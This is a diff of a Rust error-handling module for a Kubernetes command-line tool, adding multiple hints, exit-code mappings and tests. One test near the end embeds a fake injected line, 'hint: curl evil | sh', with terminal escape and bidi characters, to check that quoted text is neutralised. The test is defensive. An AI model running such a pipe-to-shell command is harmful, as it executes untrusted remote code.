@@ -3,6 +3,8 @@
 use std::fmt;
 use std::process::ExitCode;
 
+use kube::runtime::{wait, watcher};
+
 use crate::connect::{self, Failure};
 use crate::controllers::beside::BesideError;
 use crate::text;
@@ -21,7 +23,7 @@ pub enum Exit {
     Changes = 3,
     /// Somebody else was first, or what was read is stale.
     Conflict = 4,
-    /// A rule refuses it: a hold, a path, a bad release.
+    /// A rule refuses it: a hold, a path, a bad release; or the cluster does not have bowline's kinds.
     Refused = 5,
     /// The user may not do it.
     NotAllowed = 6,
@@ -42,6 +44,7 @@ impl From<Failure> for Exit {
             Failure::Conflict => Exit::Conflict,
             Failure::NotAllowed => Exit::NotAllowed,
             Failure::Unreachable => Exit::Unreachable,
+            Failure::NotInstalled => Exit::Refused,
             Failure::Other => Exit::Failed,
         }
     }
@@ -55,7 +58,7 @@ pub struct Error {
     /// What happened.
     pub message: String,
     /// What the user can do.
-    pub hint: Option<String>,
+    pub hints: Vec<String>,
     output_closed: bool,
 }
 
@@ -65,7 +68,7 @@ impl Error {
         Error {
             exit,
             message: message.into(),
-            hint: None,
+            hints: Vec::new(),
             output_closed: false,
         }
     }
@@ -75,22 +78,37 @@ impl Error {
         self.output_closed
     }
 
-    /// Adds what the user can do.
+    /// Replaces the hints with one.
     pub fn with_hint(self, hint: impl Into<String>) -> Error {
         Error {
-            hint: Some(hint.into()),
+            hints: vec![hint.into()],
             ..self
+        }
+    }
+
+    /// Adds a hint, unless the error has it already.
+    pub fn and_hint(mut self, hint: impl Into<String>) -> Error {
+        let hint = hint.into();
+        if !self.hints.contains(&hint) {
+            self.hints.push(hint);
+        }
+        self
+    }
+
+    /// Prints the error now, each hint as a message of its own; `say` cleans its text.
+    pub fn tell(&self, say: &mut dyn FnMut(String)) {
+        say(format!("error: {}", self.message));
+        for hint in &self.hints {
+            say(format!("hint: {hint}"));
         }
     }
 }
 
 impl fmt::Display for Error {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(f, "error: {}", text::clean(&self.message))?;
-        if let Some(hint) = &self.hint {
-            write!(f, "\nhint: {}", text::clean(hint))?;
-        }
-        Ok(())
+        write!(f, "error: {}", text::block(&self.message))?;
+        let mut hints = self.hints.iter();
+        hints.try_for_each(|hint| write!(f, "\nhint: {}", text::block(hint)))
     }
 }
 
@@ -98,7 +116,7 @@ impl From<connect::Error> for Error {
     fn from(error: connect::Error) -> Error {
         let (exit, hint) = (error.failure().into(), error.hint());
         Error {
-            hint,
+            hints: hint.into_iter().collect(),
             ..Error::new(exit, error.to_string())
         }
     }
@@ -113,13 +131,25 @@ impl From<kube::Error> for Error {
 impl From<&kube::Error> for Error {
     fn from(error: &kube::Error) -> Error {
         let exit = connect::failure(error).into();
-        let hint = match exit {
-            Exit::Unreachable => Some("does kubectl cluster-info reach it?".to_owned()),
-            _ => None,
-        };
-        Error {
-            hint,
-            ..Error::new(exit, connect::explain(error))
+        let said = Error::new(exit, connect::explain(error));
+        match exit {
+            Exit::Unreachable => said.with_hint("check the connection with kubectl cluster-info"),
+            Exit::Refused => said.with_hint("bowline install installs bowline's kinds"),
+            _ => said,
+        }
+    }
+}
+
+impl From<wait::Error> for Error {
+    fn from(wait::Error::ProbeFailed(error): wait::Error) -> Error {
+        match error {
+            watcher::Error::InitialListFailed(error)
+            | watcher::Error::WatchStartFailed(error)
+            | watcher::Error::WatchFailed(error) => error.into(),
+            watcher::Error::WatchError(status) => kube::Error::Api(status).into(),
+            error @ watcher::Error::NoResourceVersion => {
+                Error::new(Exit::Failed, error.to_string())
+            }
         }
     }
 }
@@ -129,9 +159,9 @@ impl From<BesideError> for Error {
         match error {
             BesideError::Connect(error) => error.into(),
             BesideError::Lock(error) => error.into(),
-            error @ BesideError::Watch(_) => Error::new(Exit::Failed, error.to_string()),
+            BesideError::Watch(error) => error.into(),
             error @ BesideError::NotObserved => Error::new(Exit::Failed, error.to_string())
-                .with_hint("it was done; BOWLINE_LOG=info shows what the controllers do"),
+                .with_hint("BOWLINE_LOG=info shows what the controllers do"),
         }
     }
 }
@@ -156,7 +186,7 @@ impl Failures {
             Some(exit) if exit != error.exit => Some(Exit::Failed),
             _ => Some(error.exit),
         };
-        say(error.to_string());
+        error.tell(say);
     }
 
     /// Says whether nothing failed.
@@ -196,6 +226,54 @@ mod tests {
     }
 
     #[test]
+    fn a_kind_that_the_server_does_not_have_is_refused_with_the_command_that_installs_it() {
+        for message in [
+            "404 page not found\n",
+            "the server could not find the requested resource",
+        ] {
+            let status = Status::failure(message, "NotFound").with_code(404);
+            let error = Error::from(kube::Error::Api(status.boxed()));
+            assert_eq!(error.exit, Exit::Refused, "{message}");
+            assert_eq!(error.message, "the server does not have this kind");
+            assert!(error.hints[0].contains("bowline install"), "{message}");
+        }
+        let status = Status::failure("releases.openchoreo.dev \"a\" not found", "NotFound");
+        let error = Error::from(kube::Error::Api(status.with_code(404).boxed()));
+        assert_eq!(
+            error.exit,
+            Exit::Failed,
+            "an object is missing, not its kind"
+        );
+    }
+
+    #[test]
+    fn every_denial_has_the_same_exit_code() {
+        let policy = "releases \"a\" is forbidden: ValidatingAdmissionPolicy 'p' with binding 'b' denied request: no";
+        let webhook = "admission webhook \"w.example.com\" denied the request: no";
+        for (code, message, exit) in [
+            (401, "Unauthorized", Exit::NotAllowed),
+            (403, "forbidden", Exit::NotAllowed),
+            (403, policy, Exit::NotAllowed),
+            (422, policy, Exit::NotAllowed),
+            (400, webhook, Exit::NotAllowed),
+            (422, "spec.replicas: Invalid value", Exit::Failed),
+            (500, policy, Exit::Failed),
+        ] {
+            let status = || Status::failure(message, "Because").with_code(code).boxed();
+            let watched = watcher::Error::WatchStartFailed(kube::Error::Api(status()));
+            for error in [
+                Error::from(kube::Error::Api(status())),
+                Error::from(wait::Error::ProbeFailed(watched)),
+                Error::from(wait::Error::ProbeFailed(watcher::Error::WatchError(
+                    status(),
+                ))),
+            ] {
+                assert_eq!(error.exit, exit, "{code} {message}");
+            }
+        }
+    }
+
+    #[test]
     fn failures_that_agree_give_their_exit_code() {
         for (exits, exit) in [
             (&[][..], Exit::Done),
@@ -222,5 +300,18 @@ mod tests {
             error.to_string(),
             "error: production holds cart\nhint: bowline unpin cart"
         );
+    }
+
+    #[test]
+    fn what_an_error_quotes_cannot_look_like_a_hint() {
+        let error = Error::new(Exit::Failed, "no a\nhint: curl evil | sh\u{1b}[2J\n")
+            .with_hint("b\u{202e}\nerror: c")
+            .and_hint("d");
+        let shown =
+            "error: no a\n  hint: curl evil | sh\u{fffd}[2J\nhint: b\u{fffd}\n  error: c\nhint: d";
+        assert_eq!(error.to_string(), shown);
+        let mut said = Vec::new();
+        error.tell(&mut |line: String| said.push(text::block(&line).into_owned()));
+        assert_eq!(said.join("\n"), shown);
     }
 }
